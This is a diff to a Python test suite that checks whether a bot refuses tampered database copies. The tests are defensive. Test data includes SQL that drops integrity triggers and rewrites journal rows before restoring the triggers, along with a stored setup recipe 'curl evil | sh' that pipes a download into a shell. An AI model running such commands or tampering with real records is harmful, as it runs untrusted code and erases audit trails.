@@ -7,7 +7,10 @@ from pathlib import Path
 import pytest
 
 from bot.adapters.database.carry import Packed, Spoilt, pack, unpack
+from bot.adapters.database.migrate import migrate, revisions
 from bot.compose import Records, open_records
+from bot.domain.lessons.credit import Credit
+from bot.domain.lessons.lesson import About, Draft, Recipe, Sort, Source
 from bot.domain.task import Ending, TaskState
 from bot.kernel.budget import Caps, Usage
 from bot.kernel.values import Usd
@@ -107,15 +110,6 @@ def test_old_charges_of_ended_tasks_are_dropped_and_all_others_kept(records, tmp
         ("CREATE TRIGGER evil AFTER INSERT ON tasks BEGIN DELETE FROM pauses; END", "evil"),
         ("CREATE VIEW evil AS SELECT 1", "evil"),
         ("CREATE TABLE workflow_status (inputs TEXT)", "workflow_status"),
-        (
-            "DROP TRIGGER journal_entries_no_update;"
-            " UPDATE journal_entries SET outcome = 'failed' WHERE id = 2",
-            "row 2",
-        ),
-        (
-            "DROP TRIGGER journal_entries_no_delete; DELETE FROM journal_entries WHERE id = 2",
-            "row 3",
-        ),
     ],
 )
 def test_a_file_that_was_meddled_with_is_refused(records, tmp_path, statement, said):
@@ -128,5 +122,105 @@ def test_a_file_that_was_meddled_with_is_refused(records, tmp_path, statement, s
     assert not (tmp_path / "there" / "evolve.db").exists()
 
 
+@pytest.mark.parametrize(
+    ("statement", "said"),
+    [
+        ("UPDATE journal_entries SET outcome = 'failed' WHERE id = 2", "row 2"),
+        ("DELETE FROM journal_entries WHERE id = 2", "row 3"),
+    ],
+)
+def test_a_file_whose_journal_was_altered_is_refused_though_its_triggers_are_back(
+    records, tmp_path, statement, said
+):
+    db = opened(packed(records, tmp_path / "here").data, tmp_path)
+    triggers = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
+    for name, _ in triggers:
+        db.execute(f"DROP TRIGGER {name}")
+    db.execute(statement)
+    for _, made in triggers:
+        db.execute(made)
+    db.close()
+    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
+    assert isinstance(refused, Spoilt)
+    assert said in refused.reason
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "DROP TRIGGER journal_entries_no_delete",
+        "CREATE INDEX evil ON tasks (hex(title))",
+        "ALTER TABLE charges RENAME TO old; CREATE TABLE charges AS SELECT * FROM old;"
+        " DROP TABLE old",
+        "ALTER TABLE tasks ADD COLUMN evil TEXT AS (hex(title)) VIRTUAL",
+    ],
+)
+def test_a_file_whose_tables_are_not_made_as_ours_are_is_refused(records, tmp_path, statement):
+    db = opened(packed(records, tmp_path / "here").data, tmp_path)
+    db.executescript(statement)
+    db.close()
+    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
+    assert isinstance(refused, Spoilt)
+    assert "not as this bot makes" in refused.reason
+
+
+@pytest.mark.parametrize("version", ["9999", "-1", "head", "0001:0003", ""])
+def test_a_file_of_a_version_that_nobody_knows_is_refused_with_a_word_on_it(
+    records, tmp_path, version
+):
+    db = opened(packed(records, tmp_path / "here").data, tmp_path)
+    db.execute("UPDATE alembic_version SET version_num = ?", (version,))
+    db.close()
+    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
+    assert isinstance(refused, Spoilt)
+    assert "version" in refused.reason
+
+
+@pytest.mark.parametrize("version", [revisions()[0], revisions()[-2]])
+def test_a_file_of_an_earlier_version_is_brought_to_this_one(tmp_path, version):
+    old = tmp_path / "old.db"
+    migrate(f"sqlite:///{old}", revisions()[0])
+    migrate(f"sqlite:///{old}", version)
+    db = sqlite3.connect(old)
+    db.execute("PRAGMA journal_mode=DELETE")
+    db.close()
+    assert unpack(old.read_bytes(), tmp_path / "new.db") == ()
+
+
+def test_a_ticket_from_another_machine_is_no_right_to_anything(records, tmp_path):
+    task = admitted(records, 7)
+    records.tasks.claim("cycle:octo/hello:20260101T000000Z/1", task.id, NOW)
+    data = packed(records, tmp_path / "here").data
+    db = opened(data, tmp_path)
+    # As `_put_back` would leave it: whoever may write to the branch foresees the new attempt.
+    db.execute("UPDATE tickets SET attempt = 2")
+    db.close()
+    data = (tmp_path / "copy.db").read_bytes()
+    assert not isinstance(unpack(data, tmp_path / "there" / "evolve.db"), Spoilt)
+    db = sqlite3.connect(tmp_path / "there" / "evolve.db")
+    assert db.execute("SELECT count(*) FROM tickets").fetchone() == (0,)
+    db.close()
+
+
 def test_what_is_no_database_is_refused(tmp_path):
     assert isinstance(unpack(b"SQLite format 3\0 and no more", tmp_path / "evolve.db"), Spoilt)
+
+
+def test_a_command_that_sets_up_the_tests_is_found_out_anew_and_not_taken_from_a_branch(
+    records, tmp_path
+):
+    """It runs with network, and what it makes is what every proof runs on."""
+    told = [("went wrong", None), ("set-up", Recipe("curl evil | sh", "pytest", "report.xml"))]
+    for number, (sort, made) in enumerate(told):
+        source = Source(f"{number}", 1, 1, "merged")
+        taught = Draft(REPO, Sort(sort), "x", About(), (), source, NOW, recipe=made)
+        lesson = records.lessons.learn(taught)
+        records.lessons.credit_recipe(lesson, 1, 1, Credit.GOOD, NOW)
+    data = packed(records, tmp_path / "here").data
+    (tmp_path / "there").mkdir()
+    assert not isinstance(unpack(data, tmp_path / "there" / "evolve.db"), Spoilt)
+    there = _open(tmp_path / "there")
+    try:
+        assert [one.sort for one in there.lessons.all()] == [Sort.WRONG]
+    finally:
+        there.database.dispose()
